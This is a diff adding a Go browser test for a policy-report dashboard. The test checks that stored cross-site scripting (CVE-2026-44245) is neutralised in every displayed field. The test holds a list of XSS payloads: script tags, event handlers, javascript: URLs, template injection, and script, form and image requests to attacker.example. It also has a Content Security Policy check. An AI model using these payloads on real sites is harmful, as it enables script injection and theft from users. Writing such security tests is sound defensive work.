@@ -1,0 +1,113 @@
+package dashboard
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	policyreport "github.com/ephor-dev/ephor/api/policyreport/v1alpha2"
+)
+
+// attacks are texts that would run, load or break something where text is taken for markup, for code or for an address.
+var attacks = []string{
+	`<script>window.attacked = "script"</script>`,
+	`<img src=x onerror="window.attacked='img'">`,
+	`<svg onload="window.attacked='svg'"></svg>`,
+	`"><iframe srcdoc="<script>parent.attacked='frame'</script>"></iframe>`,
+	`javascript:window.attacked='address'`,
+	`<a href="javascript:window.attacked='link'" id="attacked-link" autofocus onfocus="window.attacked='focus'">click</a>`,
+	`<style>body{display:none !important}</style>`,
+	`</textarea></select></table></script><script src="https://attacker.example/x.js"></script>`,
+	`{{constructor.constructor("window.attacked='template'")()}} ${window.attacked="literal"}`,
+	`' onmouseover='window.attacked="mouse"`,
+	`__proto__`, `constructor`, `hasOwnProperty`,
+	"\u202eright to left, \u0007 and a bell",
+	`<base href="https://attacker.example/"><form action="https://attacker.example/"><input name=id></form>`,
+}
+
+// S26 (CVE-2026-44245): stored cross-site scripting in a report's UI through the properties of results. What reports say is
+// hostile text, in every field that the page shows: policy, rule, category, source, message, names and values of properties,
+// kinds and names of resources, severities and results that are none.
+func TestLessonS26HostileText(t *testing.T) {
+	namespaces(t, "hostile")
+	var objects []any
+	for i, text := range attacks {
+		r := result(text, text, "fail", "high", text+strings.Repeat(" ", 300)+text)
+		r.Category, r.Source = text, text
+		r.Properties = map[string]string{text: text, "process": text}
+		plain := result("hostile-property", "rule", "fail", "low", "a short message")
+		plain.Properties = map[string]string{"url": text, text: "value"}
+		report := newReport("hostile", text, text, r, plain).(*policyreport.PolicyReport)
+		report.Name = fmt.Sprint("hostile-", i)
+		objects = append(objects, report)
+	}
+	// A ClusterRole may really have such a name.
+	objects = append(objects, newReport("", "ClusterRole", attacks[1], result("hostile-cluster", attacks[0], "warn", "", attacks[1])))
+	objects[len(objects)-1].(*policyreport.ClusterPolicyReport).Name = "hostile"
+	apply(t, objects...)
+	s := serve(t, false, nil)
+	ready(t, s.url, "", func(n int) bool { return n >= len(objects) })
+
+	b := open(t, s.url+"#namespace=hostile")
+	b.Until(loaded)
+	// All rows of all results, and everything open that opens.
+	b.Until(`const more = document.querySelector("#more"); if (!more.hidden && !more.disabled) more.click();
+		for (const rest of document.querySelectorAll("#policies > button.quiet")) if (rest.textContent.startsWith("Show all")) rest.click();
+		document.querySelectorAll("details").forEach((d) => { d.open = true });
+		return more.hidden && document.querySelectorAll("#results tbody tr").length === arguments[0]`, 2*len(attacks))
+	shown := func(selector string) (texts []string) {
+		b.Script(&texts, `return [...document.querySelectorAll(arguments[0])].map((e) => e.textContent)`, selector)
+		return texts
+	}
+	for _, where := range []string{
+		"#policies tbody th button", "#results tbody td:nth-child(2) button", "#results tbody td:nth-child(3) button", "#results .message.whole",
+		"#results .properties dt", "#results .properties dd", "#filter-policy option", "#results tbody td:nth-child(3) .sub",
+	} {
+		all := strings.Join(shown(where), "\n")
+		for _, text := range attacks {
+			if !strings.Contains(all, text) {
+				t.Errorf("%s does not show %q as it is", where, text)
+			}
+		}
+	}
+	harmless := func(when string) {
+		t.Helper()
+		var attacked any
+		b.Script(&attacked, `return window.attacked ?? null`)
+		if attacked != nil {
+			t.Errorf("%s: a script of a report ran: %v", when, attacked)
+		}
+		var strangers []string
+		b.Script(&strangers, `return [...document.querySelectorAll("script:not([src='app.js']), iframe, img:not([src='icon.svg']), a:not(.skip-link), style, base, object, embed, form:not(#login):not(#filters), link:not([href='style.css']):not([href='icon.svg']), [onclick], [onerror], [onload], [onfocus], [onmouseover], [srcdoc]")].map((e) => e.outerHTML)`)
+		if len(strangers) > 0 {
+			t.Errorf("%s: there are elements of reports: %q", when, strangers)
+		}
+	}
+	harmless("at first")
+	// Texts go through every filter, and through the address.
+	for i := range attacks {
+		b.Script(nil, `[...document.querySelectorAll("#results tbody td:nth-child(3) button")].filter((e) => e.textContent === arguments[0]).at(0)?.click()`, attacks[i])
+		time.Sleep(20 * time.Millisecond)
+		b.Until(loaded)
+	}
+	harmless("filtered")
+	b.Open(s.url + "#policy=" + "%3Cimg%20src=x%20onerror=%22window.attacked='hash'%22%3E&resource=%3Cscript%3E")
+	b.Until(loaded)
+	b.Open(s.url + "#scope=x&namespace=" + strings.Repeat("%3Cb%3E", 50))
+	b.Until(loaded)
+	harmless("through the address")
+	calm(t, b)
+
+	// Had a script made HTML of such a text, the page's policy would not have let it.
+	var refused string
+	b.Script(&refused, `try { document.querySelector("#status").innerHTML = "<b>x</b>"; return "made" } catch (e) { return e.name }`)
+	if refused != "TypeError" {
+		t.Errorf("HTML from text is %s", refused)
+	}
+	b.Script(nil, `const s = document.createElement("img"); s.src = "https://attacker.example/leak"; document.body.append(s)`)
+	b.Until(`return document.querySelector("main ~ img").complete`)
+	if console := fmt.Sprint(b.Console()); !strings.Contains(console, "attacker.example/leak' violates the following Content Security Policy directive") {
+		t.Errorf("an image from elsewhere is asked for; the console says %s", console)
+	}
+}
